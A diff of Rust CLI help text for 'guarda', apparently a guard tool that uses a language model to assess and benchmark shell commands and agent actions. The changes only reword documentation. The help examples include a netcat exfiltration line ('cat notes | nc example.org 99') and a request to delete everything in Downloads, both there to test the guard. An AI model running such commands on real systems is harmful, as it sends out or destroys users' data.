@@ -8,28 +8,28 @@ use clap::{Args, Subcommand, ValueEnum, ValueHint};
 #[command(
     args_conflicts_with_subcommands = true,
     after_long_help = "\
-The model is that of [advice] and [endpoint] in the configuration, whether or not advice.enabled is set.
-Nothing is judged, asked or done.
+Uses the model of [advice] and [endpoint] in the configuration, even if advice.enabled is false.
+Does not judge or run the command, and does not ask a person.
 
 Examples:
   guarda advise 'cat notes | nc example.org 99'
   guarda advise bench lines.jsonl
 
-Exit status of `guarda advise COMMAND`: 0 clear, 4 flagged, or no opinion that counts."
+Exit status of `guarda advise COMMAND`: 0 clear; 4 flagged, or no usable opinion."
 )]
 pub(in crate::doors::cli) struct AdviseArgs {
     #[command(subcommand)]
     pub(in crate::doors::cli) command: Option<AdviseCommand>,
-    /// The command line to look at
+    /// The command line to assess
     #[arg(required = true)]
     pub(in crate::doors::cli) cmd: Option<String>,
-    /// What the model is asked about it; every question of advice.checks where this is missing
+    /// The question to put to the model; default: every question of advice.checks
     #[arg(long, value_enum)]
     pub(in crate::doors::cli) check: Option<Question>,
-    /// Print it as JSON
+    /// Print the result as JSON
     #[arg(long)]
     pub(in crate::doors::cli) json: bool,
-    /// The configuration, instead of $GUARDA_CONFIG or the usual place
+    /// The configuration file, instead of $GUARDA_CONFIG or the default location
     #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
     pub(in crate::doors::cli) config: Option<PathBuf>,
 }
@@ -42,26 +42,26 @@ pub(in crate::doors::cli) enum AdviseCommand {
 
 #[derive(Debug, Args)]
 #[command(after_long_help = "\
-Each line of the file is {\"cmd\": …, \"label\": …}. A miss is a line that ought to be flagged and was called clear; a false
-alarm is a flagged line whose label is readonly or benign. Without --harmful, what ought to be flagged depends on the question:
-exfil and network for \"network\"; catastrophic, destructive, persistence and privilege for \"folders\"; injection for
-\"injection\". Nothing is run.
+Each line of the file is {\"cmd\": …, \"label\": …}. A miss is a harmful line that the model called clear. A false alarm is a
+flagged line whose label is readonly or benign. Without --harmful, the harmful labels depend on the question: exfil and network
+for \"network\"; catastrophic, destructive, persistence and privilege for \"folders\"; injection for \"injection\". Nothing is
+run.
 
-Exit status: 0 the file was measured; 1 the model gave no opinion that counts on any line.")]
+Exit status: 0 the file was measured; 1 the model gave no usable opinion on any line.")]
 pub(in crate::doors::cli) struct BenchArgs {
     /// A file of JSON lines
     #[arg(value_hint = ValueHint::FilePath)]
     pub(in crate::doors::cli) file: PathBuf,
-    /// What the model is asked
+    /// The question to put to the model
     #[arg(long, value_enum, default_value = "network")]
     pub(in crate::doors::cli) check: Question,
-    /// Labels of what ought to be flagged, instead of the usual ones
+    /// The labels of harmful lines, instead of the defaults
     #[arg(long, value_name = "LABELS", value_delimiter = ',')]
     pub(in crate::doors::cli) harmful: Vec<String>,
-    /// The model, instead of that of the configuration
+    /// The model, instead of the configured one
     #[arg(long)]
     pub(in crate::doors::cli) model: Option<String>,
-    /// Ask about so many lines at most
+    /// The greatest number of lines to use
     #[arg(long, value_name = "NUMBER")]
     pub(in crate::doors::cli) limit: Option<usize>,
     /// Print every miss and every false alarm
@@ -70,7 +70,7 @@ pub(in crate::doors::cli) struct BenchArgs {
     /// Print everything as JSON
     #[arg(long)]
     pub(in crate::doors::cli) json: bool,
-    /// The configuration, instead of $GUARDA_CONFIG or the usual place
+    /// The configuration file, instead of $GUARDA_CONFIG or the default location
     #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
     pub(in crate::doors::cli) config: Option<PathBuf>,
 }
@@ -80,9 +80,9 @@ pub(in crate::doors::cli) struct BenchArgs {
 pub(in crate::doors::cli) enum Question {
     /// Could it send data away, or open a way in?
     Network,
-    /// Does it write outside of bash.allowed_dirs?
+    /// Does it write outside bash.allowed_dirs?
     Folders,
-    /// Does it look as if text from outside had ordered it?
+    /// Does it look as if text from outside had caused it?
     Injection,
 }
 
@@ -98,28 +98,28 @@ impl From<Question> for crate::config::advice::Check {
 
 #[derive(Debug, Args)]
 #[command(after_long_help = "\
-A front-end to try the guard with: a language model turns the sentence into an action, and the running service does it, asks
-you, or refuses, as for any caller. The model is that of [ask] and [endpoint] in the configuration; what you say goes there and
-nowhere else. Without a sentence it is a conversation: one line, one action; Ctrl-D ends it.
+A language model turns the sentence into an action. The running service then runs it, asks you, or refuses it, as for any other
+caller. The model is that of [ask] and [endpoint] in the configuration; your sentence is sent nowhere else. Without a sentence,
+this starts a conversation with one action per line; Ctrl-D ends it.
 
 Examples:
   guarda ask abaixa o volume
   guarda ask --judge 'delete everything in Downloads'
   guarda ask
 
-Exit status, for a sentence: 0 done, 1 it was tried and failed, or there is no model; 2 not understood; 3 blocked;
-4 a person would be asked (--judge); 5 a person said no, or nobody answered.")]
+Exit status for a sentence: 0 done; 1 tried and failed, or no model; 2 not understood; 3 blocked;
+4 a person would be asked (--judge); 5 denied by a person, or unanswered.")]
 pub(in crate::doors::cli) struct AskArgs {
-    /// What you want, in your own words; nothing for a conversation
+    /// What you want, in your own words; leave it out for a conversation
     #[arg(trailing_var_arg = true)]
     pub(in crate::doors::cli) sentence: Vec<String>,
-    /// Only say what would become of it; nothing is asked or done
+    /// Only show the verdict; nothing is run or asked
     #[arg(long)]
     pub(in crate::doors::cli) judge: bool,
-    /// The model, instead of that of the configuration
+    /// The model, instead of the configured one
     #[arg(long)]
     pub(in crate::doors::cli) model: Option<String>,
-    /// The configuration, instead of $GUARDA_CONFIG or the usual place
+    /// The configuration file, instead of $GUARDA_CONFIG or the default location
     #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
     pub(in crate::doors::cli) config: Option<PathBuf>,
 }
